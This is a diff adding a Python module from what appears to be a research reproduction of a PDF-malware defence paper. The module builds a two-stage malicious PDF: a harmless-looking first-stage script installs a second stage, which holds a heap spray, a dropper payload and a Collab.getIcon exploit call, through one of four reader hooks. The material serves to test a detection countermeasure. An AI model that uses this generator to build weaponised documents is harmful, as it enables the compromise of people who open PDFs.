@@ -1,0 +1,58 @@
+"""Staged attack (§IV-B, Figure 5 + Table IV).
+
+Stage 1 looks harmless: it only *installs* stage 2 at runtime through
+one of the Table IV methods.  Stage 2 — which carries the spray and the
+exploit — fires later on a user event (close, page open, bookmark).
+Without the countermeasure, stage 2 would run outside any monitored JS
+context; the generated wrappers re-instrument the dynamically added
+script so its operations stay attributed.
+"""
+
+from __future__ import annotations
+
+import random
+
+from repro.corpus import js_snippets as js
+from repro.pdf.builder import DocumentBuilder
+from repro.reader.exploits import CVE
+from repro.reader.payload import Payload
+
+#: Table IV installation methods and the event that triggers stage 2.
+INSTALL_METHODS = {
+    "addScript": ('this.addScript("upd", __STAGE2__);', "Open"),
+    "setAction": ('this.setAction("WillClose", __STAGE2__);', "WillClose"),
+    "setPageAction": ('this.setPageAction(0, "Open", __STAGE2__);', "Open"),
+    "bookmark": ("this.bookmarkRoot.setAction(__STAGE2__);", "bookmark"),
+}
+
+
+def stage2_code(seed: int = 55, spray_mb: int = 150) -> str:
+    rng = random.Random(seed)
+    return js.spray_script(
+        spray_mb,
+        Payload.dropper(),
+        rng=rng,
+        exploit_call=js.exploit_call_for(CVE.COLLAB_GET_ICON, rng),
+    )
+
+
+def staged_attack_document(
+    method: str = "setAction", seed: int = 55, spray_mb: int = 150
+) -> bytes:
+    """Build the two-stage document; stage 2 installed via ``method``."""
+    if method not in INSTALL_METHODS:
+        raise ValueError(f"unknown install method {method!r}")
+    install_template, _event = INSTALL_METHODS[method]
+    stage2 = stage2_code(seed, spray_mb)
+    stage2_literal = '"' + js.escape_for_js(stage2) + '"'
+    stage1 = install_template.replace("__STAGE2__", stage2_literal)
+
+    builder = DocumentBuilder()
+    builder.add_page("nothing to see here")
+    builder.add_javascript(stage1, trigger="OpenAction")
+    return builder.to_bytes()
+
+
+def trigger_event_for(method: str) -> str:
+    """Which reader event fires stage 2 for ``method``."""
+    return INSTALL_METHODS[method][1]
